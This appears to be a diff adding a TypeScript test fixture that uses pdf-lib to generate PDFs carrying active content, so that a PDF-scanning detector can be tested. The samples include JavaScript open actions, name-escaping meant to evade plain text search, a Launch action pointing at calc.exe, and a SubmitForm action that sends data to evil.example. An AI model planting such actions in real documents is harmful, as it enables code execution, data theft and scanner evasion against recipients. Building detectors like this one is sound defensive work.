@@ -1,0 +1,98 @@
+import { PDFDocument, PDFName, PDFObject, PDFString, type PDFContext, type PDFRef } from 'pdf-lib';
+
+/**
+ * Real PDFs (pdf-lib) that carry JavaScript or actions, for the look through PDFs
+ * (src/artwork/pdf-active.ts): written plain, or with their dictionaries in compressed object
+ * streams as PDF 1.5 writers do, and with names spelled with `#xx` escapes.
+ */
+
+/** A name written as given, escapes and all (pdf-lib writes `#xx` only where a name needs one). */
+class RawName extends PDFObject {
+  constructor(private readonly text: string) {
+    super();
+  }
+  clone(): RawName {
+    return this;
+  }
+  toString(): string {
+    return this.text;
+  }
+  sizeInBytes(): number {
+    return this.text.length;
+  }
+  copyBytesInto(buffer: Uint8Array, offset: number): number {
+    for (let i = 0; i < this.text.length; i++) buffer[offset + i] = this.text.charCodeAt(i);
+    return this.text.length;
+  }
+}
+
+/** What a test PDF carries besides its page. */
+export type PdfActivity =
+  | 'none'
+  /** An /OpenAction that is a JavaScript action. */
+  | 'open-javascript'
+  /** The same, its names spelled /J#61vaScript and /J#53. */
+  | 'open-javascript-escaped'
+  /** Document-level JavaScript in the /Names tree. */
+  | 'names-javascript'
+  /** An /OpenAction that launches a program. */
+  | 'open-launch'
+  /** A page's additional actions (/AA) with a JavaScript action on opening it, its /S spelled with escapes. */
+  | 'page-aa'
+  /** An /OpenAction that submits a form elsewhere. */
+  | 'open-submitform'
+  /** A file attached (/EmbeddedFiles, /EmbeddedFile). */
+  | 'attachment'
+  /** /OpenAction to a page and a zoom, as many PDFs have: not active. */
+  | 'open-page';
+
+const jsAction = (context: PDFContext, escaped = false): PDFRef => {
+  const action = context.obj({ Type: 'Action', JS: PDFString.of('app.alert("hello");') });
+  action.set(PDFName.of('S'), escaped ? new RawName('/J#61vaScript') : PDFName.of('JavaScript'));
+  if (escaped) {
+    // The key /JS spelled /J#53: the dictionary is written from its map, whatever the key object is.
+    const js = action.get(PDFName.of('JS'))!;
+    action.delete(PDFName.of('JS'));
+    action.set(new RawName('/J#53') as unknown as PDFName, js);
+  }
+  return context.register(action);
+};
+
+/** A PDF of one 100 x 100 mm page carrying `activity`, saved with or without object streams. */
+export async function activePdf(activity: PdfActivity, objectStreams: boolean): Promise<Uint8Array> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([283.46, 283.46]);
+  const { context, catalog } = doc;
+  switch (activity) {
+    case 'open-javascript':
+      catalog.set(PDFName.of('OpenAction'), jsAction(context));
+      break;
+    case 'open-javascript-escaped':
+      catalog.set(PDFName.of('OpenAction'), jsAction(context, true));
+      break;
+    case 'names-javascript':
+      catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('hello'), jsAction(context)] }) }));
+      break;
+    case 'open-launch':
+      catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') })));
+      break;
+    case 'page-aa':
+      page.node.set(PDFName.of('AA'), context.obj({ O: jsAction(context, true) }));
+      break;
+    case 'open-submitform':
+      catalog.set(PDFName.of('OpenAction'), context.register(context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.example/collect') }) })));
+      break;
+    case 'attachment':
+      await doc.attach(new TextEncoder().encode('notes for the printer'), 'notes.txt', { mimeType: 'text/plain' });
+      break;
+    case 'open-page':
+      catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, PDFName.of('Fit')]));
+      break;
+    case 'none':
+      break;
+  }
+  return doc.save({ useObjectStreams: objectStreams });
+}
+
+/** The bytes as Latin-1 text, to see what a plain search of the file finds. */
+export const latin1 = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
